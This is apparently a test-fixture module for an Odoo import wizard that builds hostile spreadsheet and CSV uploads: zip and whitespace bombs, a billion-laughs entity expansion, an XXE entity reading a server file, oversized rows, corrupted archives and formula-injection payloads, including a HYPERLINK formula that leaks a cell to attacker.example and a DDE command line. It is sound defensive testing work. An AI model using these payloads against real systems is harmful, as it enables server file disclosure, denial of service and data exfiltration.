# Copyright 2026 opportunity_pipeline developers
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Hostile uploads, built in memory: the corpus of the upload tests.

Pure Python (no Odoo import), so that ``pytest tests/`` (tools/upload_guard without a database)
and the Odoo tests (the import wizard end to end) use the very same files. Each builder returns
the bytes of one file and says in its docstring what it does to a reader that trusts it.
"""

import datetime
import io
import zipfile

import xlsxwriter

MIB = 1024 * 1024
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)


def _cell(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _rows_xml(rows, first=1):
    out = []
    for number, cells in enumerate(rows, first):
        refs = "".join(_cell(f"{chr(65 + i)}{number}", text) for i, text in enumerate(cells))
        out.append(f'<row r="{number}">{refs}</row>')
    return "".join(out)


def raw_xlsx(sheet_data, shared_strings=None, dimension=None, doctype=""):
    """A minimal .xlsx written by hand (as odd producers do): ``sheet_data`` is the XML inside
    ``<sheetData>``; ``shared_strings`` the XML inside ``<sst>`` (a sharedStrings part is
    always written); ``doctype`` is put before the root of both parts."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<worksheet xmlns="{MAIN_NS}">'
        f"{dim}<sheetData>{sheet_data}</sheetData></worksheet>"
    )
    strings = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<sst xmlns="{MAIN_NS}">'
        f"{shared_strings or ''}</sst>"
    )
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        archive.writestr("xl/sharedStrings.xml", strings)
    return output.getvalue()


def header_and_rows(rows, header=("Opportunity", "Contact")):
    return _rows_xml([header, *rows])


def whitespace_bomb(unpacked_mb=400):
    """~400 KiB on disk, a sheet of ``unpacked_mb`` MB of whitespace once unpacked: a parser that
    trusts it builds one giant text node (a worker was killed by it)."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/sharedStrings.xml", f'<sst xmlns="{MAIN_NS}"/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
            stream.write(f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1">'.encode())
            stream.write(_cell("A1", "Opportunity").encode())
            chunk = b" " * MIB
            for _i in range(unpacked_mb):
                stream.write(chunk)
            stream.write(b"</row></sheetData></worksheet>")
    return output.getvalue()


def shared_strings_bomb(count=2_000_000):
    """~0.1 MB on disk, two million shared strings: openpyxl loads the whole table (hundreds
    of MB) before the first row is read."""
    return raw_xlsx(header_and_rows([]), "<si><t>a</t></si>" * count)


def entity_expansion():
    """The "billion laughs": nested entities that expand to gigabytes in a naive parser."""
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    doctype = f"<!DOCTYPE sst [{entities}]>"
    return raw_xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', "<si><t>&a9;</t></si>", doctype=doctype
    )


def external_entity(path="/etc/hostname"):
    """XXE: an entity that asks the parser to read a file of the server into a cell."""
    doctype = f'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://{path}">]>'
    return raw_xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>Contact</t></is>'
        '</c></row><row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="inlineStr"><is><t>X</t>'
        "</is></c></row>",
        "<si><t>&xxe;</t></si>",
        doctype=doctype,
    )


def far_row(row_number=1_048_576):
    """A header, one data row, and one cell on the sheet's last row: a reader that fills the
    gap row by row works a million times for nothing."""
    return raw_xlsx(
        header_and_rows([("A", "B")])
        + f'<row r="{row_number}">{_cell(f"A{row_number}", "x")}</row>'
    )


def wide_row():
    """One cell in the last column (XFD): a reader that pads rows builds 16,384 cells a row."""
    cells = _cell("A1", "Opportunity") + _cell("B1", "Contact") + _cell("XFD1", "far")
    rows = "".join(
        f'<row r="{n}">{_cell(f"A{n}", "Deal")}{_cell(f"B{n}", "Partner")}'
        f"{_cell(f'XFD{n}', 'x')}</row>"
        for n in range(2, 200)
    )
    return raw_xlsx(f'<row r="1">{cells}</row>{rows}', dimension="A1:XFD200")


def wrong_dimension(rows=300):
    """A sheet whose ``<dimension>`` says two rows while it holds ``rows`` data rows."""
    data = [(f"Deal {n}", "Partner") for n in range(rows)]
    return raw_xlsx(header_and_rows(data), dimension="A1:B2")


def truncated_xlsx():
    """A real .xlsx cut in the middle (an interrupted download)."""
    content = formula_xlsx()
    return content[: len(content) // 2]


def formula_xlsx(values=("=1+1",)):
    """A genuine .xlsx (xlsxwriter) with a header and one row per value in column A, each for a
    contact that does not exist (so that every row is rejected)."""
    output = io.BytesIO()
    workbook = xlsxwriter.Workbook(output, {"in_memory": True})
    sheet = workbook.add_worksheet()
    sheet.write_row(0, 0, ["Opportunity", "Contact"])
    for row, value in enumerate(values, 1):
        sheet.write_string(row, 0, value)
        sheet.write_string(row, 1, "No Such Contact Ltd")
    workbook.close()
    return output.getvalue()


PNG_BYTES = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)


def csv_unclosed_quote(size_mb=2):
    """A CSV whose quote never closes: one field of ``size_mb`` MB."""
    return b'Opportunity,Contact\n"' + b"x" * (size_mb * MIB) + b",y\n"


def oversized(size_mb, head=b""):
    """Bytes of ``size_mb`` MB starting with ``head`` (an upload bigger than allowed)."""
    return head + b"\0" * (size_mb * MIB - len(head))


#: Formulas, links and DDE payloads: typed by users, they must come back as text.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "http://attacker.example/",
)


def shared_string_reuse(length=1_000_000, rows=50):
    """One huge shared string that every Contact cell points to: a few KB on disk, and each
    rejected row would echo the whole text into an error message."""
    rows_xml = '<row r="1">' + _cell("A1", "Opportunity") + _cell("B1", "Contact") + "</row>"
    rows_xml += "".join(
        f'<row r="{n}">{_cell(f"A{n}", "Deal")}<c r="B{n}" t="s"><v>0</v></c></row>'
        for n in range(2, rows + 2)
    )
    return raw_xlsx(rows_xml, f"<si><t>{'x' * length}</t></si>")


def odd_values_xlsx():
    """Cells real files hold that are no ordinary value: NaN/inf numbers, a time of day in a date
    column, a duration."""
    output = io.BytesIO()
    workbook = xlsxwriter.Workbook(output, {"in_memory": True, "nan_inf_to_errors": True})
    sheet = workbook.add_worksheet()
    time_format = workbook.add_format({"num_format": "hh:mm"})
    sheet.write_row(0, 0, ["Opportunity", "Contact", "Value", "Priority", "Expected Closing"])
    sheet.write_row(1, 0, ["NaN deal", "Nobody Such", float("nan"), float("nan")])
    sheet.write_row(2, 0, ["Inf deal", "Nobody Such", float("inf"), 1])
    sheet.write_row(3, 0, ["Time deal", "Nobody Such", 1, 1])
    sheet.write_datetime(3, 4, datetime.datetime(1899, 12, 31, 10, 30), time_format)
    sheet.write_row(4, 0, ["Huge deal", "Nobody Such", "1e999", "nan"])
    workbook.close()
    return output.getvalue()


def corrupt_sheet_stream():
    """A genuine .xlsx whose compressed sheet data is damaged in the middle (zlib/CRC errors
    while streaming, after the archive's directory was read fine)."""
    content = bytearray(formula_xlsx(tuple(f"Deal {n}" for n in range(2000))))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    middle = start + info.compress_size // 2
    for offset in range(middle, middle + 64):
        content[offset] ^= 0x5A
    return bytes(content)


def csv_wide_row(columns=200_000):
    """One CSV line of ``columns`` empty fields."""
    return b"Opportunity,Contact\n" + b"," * columns + b"\n"
